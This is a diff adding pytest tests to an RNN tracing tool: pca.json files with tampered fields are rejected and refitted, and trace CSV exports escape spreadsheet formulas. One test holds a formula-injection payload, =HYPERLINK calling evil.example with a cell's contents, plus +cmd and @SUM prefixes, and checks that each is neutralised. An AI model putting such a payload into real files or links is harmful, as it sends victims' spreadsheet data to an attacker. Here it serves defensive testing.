@@ -343,3 +343,66 @@ def test_bench_trace_runs_on_a_run(bilstm, run_store, monkeypatch):
     assert row["tokens_traced"] == 32 and row["trace_ms"]["median"] > 0
     assert set(result["target"]) >= {"trace_ms_median", "trace_with_ig_ms_median", "met"}
     assert all(count == 1 for count in result["results"]["lstm"]["tracing_counts"].values())
+
+
+@pytest.fixture
+def own_run(make_run, tmp_path):
+    """A private copy of a tiny run with its pca.json, so tampering touches no other test."""
+    from rnnlab.runs import RunStore
+    run = make_run()
+    store = RunStore(tmp_path)
+    store.save(run.run_id, run.model, run.config, run.history, run.metrics)
+    copy = store.load(run.run_id)
+    Tracer(copy).projection_basis()
+    return copy
+
+
+@pytest.mark.parametrize("field, value", [
+    ("explained_variance_ratio", "ab"), ("explained_variance_ratio", []),
+    ("explained_variance_ratio", ["0.5", "0.2"]), ("class_centroids", [1, 2]),
+    ("class_centroids", {"World": ["a", "b"]}), ("class_centroids", {"Elsewhere": [0, 0]}),
+    ("bounds", None), ("bounds", {"x": [0, 1]}), ("mean", "ab"), ("components", [[True]]),
+    ("mean", float("nan")),
+])
+def test_a_tampered_pca_json_is_refitted_never_served(own_run, monkeypatch, field, value):
+    """Finding 3 (issue 16): a pca.json with explained_variance_ratio "ab" or [], or
+    class_centroids [1, 2], crashed Explore: only mean and components were checked."""
+    path = own_run.path / trace_module.PCA_FILE
+    good = json.loads(path.read_text())
+    if field == "mean" and isinstance(value, float):
+        value = [value] * len(good["mean"])
+    path.write_text(json.dumps({**good, field: value}))
+    assert Tracer(own_run)._load_basis() is None
+    monkeypatch.setattr(Tracer, "_fit_basis", lambda self: "refitted")
+    assert Tracer(own_run).projection_basis() == "refitted"
+
+
+def test_a_refitted_basis_replaces_the_tampered_file(own_run):
+    """Finding 3 (issue 16): the bad file is rewritten with a good basis."""
+    path = own_run.path / trace_module.PCA_FILE
+    good = json.loads(path.read_text())
+    path.write_text(json.dumps({**good, "class_centroids": [1, 2]}))
+    basis = Tracer(own_run).projection_basis()
+    assert basis["class_centroids"] == good["class_centroids"]
+    assert json.loads(path.read_text())["class_centroids"] == good["class_centroids"]
+
+
+def test_trace_csv_holds_no_live_spreadsheet_formula(make_run):
+    """Finding 7 (issue 16): a shared link with headline =HYPERLINK("http://..."&A1,"Click")
+    made the trace CSV download hold a live formula in its word column."""
+    import csv
+    import io
+
+    from rnnlab_app.ui import trace_csv
+    text = '=HYPERLINK("http://evil.example/?"&A1,"Click") +cmd -2 @SUM(A1) rally'
+    trace = get_tracer(make_run()).trace(text, integrated_gradients=False)
+    assert any(t.word.startswith("=HYPERLINK") for t in trace.tokens)
+    for data in (trace.to_csv(), trace_csv(trace)):
+        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+        assert len(rows) == len(trace.tokens)
+        cells = [value for row in rows for key, value in row.items() if key in ("token", "word", "top_class")]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+        words = [row["word"] for row in rows]
+        assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")' in words and "rally" in words
+        assert "'-2" in words and "'+cmd" in words and "'@SUM(A1)" in words
+        assert float(rows[0]["p_World"]) >= 0       # numbers stay numbers
